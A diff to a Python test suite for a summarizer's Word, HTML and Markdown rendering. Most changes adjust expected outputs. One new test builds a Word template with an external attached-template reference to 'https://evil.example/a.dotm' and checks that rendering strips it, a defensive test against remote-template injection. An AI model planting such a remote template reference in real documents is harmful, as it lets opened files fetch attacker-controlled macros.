@@ -18,6 +18,7 @@ import html5lib
 import pypdf
 import pytest
 from docx.enum.style import WD_STYLE_TYPE
+from docx.oxml import parse_xml
 from docx.shared import Pt
 from markdown_it import MarkdownIt
 from mdit_py_plugins.footnote import footnote_plugin
@@ -37,6 +38,7 @@ from summarizer.rendering.wording import LANGUAGES, Language, wording
 
 TEXT = "Velia agreed to reopen the border. Dorn said that Ostria must leave."
 W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 HOSTILE = [*OWN, *generated(2_000), *published()]
 STYLING = re.compile(r"\x1b\[[0-9;]*m")
 
@@ -112,7 +114,7 @@ def test_a_word_document_has_tables_of_parties_items_and_what_is_withheld() -> N
         ["Item", "Statement", "Addressee, terms and answer"],
         ["demand-1", "core Dorn said that “Ostria must leave”.", "to Ostria"],
     ]
-    assert rows[3][1] == ["position of Dorn: never said", "the passage does not hold the words 'never said'"]
+    assert rows[3][1] == ["position of Dorn: never said", "sentence 2\nthe passage does not hold the words 'never said'"]
     headings = [each.text for each in made.paragraphs if each.style is not None and each.style.name == "Heading 1"]
     assert headings == ["Summary", "Parties", "Positions", "Demands", "Outcomes", "Withheld", "Coverage", "Provenance"]
 
@@ -278,9 +280,25 @@ def test_no_text_becomes_markup_in_markdown_with_footnotes_and_all_comes_back() 
         made = each.briefing
         page = body_of(parsed(viewer.render(render(made))))
         tags = {each.tag for each in page.iter()}
-        assert tags <= {"body", "h1", "h2", "p", "ul", "li", "em", "strong", "blockquote", "sup", "a", "hr", "section", "ol"}
+        assert tags <= {
+            "body",
+            "h1",
+            "h2",
+            "p",
+            "ul",
+            "li",
+            "em",
+            "strong",
+            "code",
+            "blockquote",
+            "sup",
+            "a",
+            "hr",
+            "section",
+            "ol",
+        }
         links = [each.get("href") for each in page.iter("a")]
-        assert [link for link in links if not re.fullmatch(r"#fn(ref)?\d+", link or "")] == []
+        assert [link for link in links if not re.fullmatch(r"#fn(ref)?\d+(:\d+)?", link or "")] == []
         whole = squeezed("".join(page.itertext()))
         assert [text for text in shown_texts(made) if squeezed(on_one_line(text)) not in whole] == []
 
@@ -311,3 +329,20 @@ def test_every_form_is_made_in_every_language(language: Language) -> None:
     assert f'<h2 id="withheld">{words.say("withheld")}</h2>' in render(briefing(), format="html", look=look)
     headings = [each.text for each in docx.Document(BytesIO(render(briefing(), format="docx", look=look))).paragraphs]
     assert words.say("withheld") in headings
+
+
+def test_a_template_without_a_page_and_with_a_file_to_fetch_is_taken_without_either(tmp_path: Path) -> None:
+    template = docx.Document()
+    body = template.element.body
+    body.remove(body.sectPr)
+    settings = template.settings.element
+    part = next(each.target_part for each in template.part.rels.values() if each.reltype.endswith("/settings"))
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    id = part.relate_to("https://evil.example/a.dotm", kind, is_external=True)
+    settings.insert(0, parse_xml(f'<w:attachedTemplate xmlns:w="{W[1:-1]}" xmlns:r="{R}" r:id="{id}"/>'))
+    template.save(str(tmp_path / "house.docx"))
+    made = render(briefing(), format="docx", look=Look(reference_doc=tmp_path / "house.docx"))
+    with zipfile.ZipFile(BytesIO(made)) as file:
+        assert [
+            name for name in file.namelist() if b"evil.example" in file.read(name) or b"attachedTemplate" in file.read(name)
+        ] == []
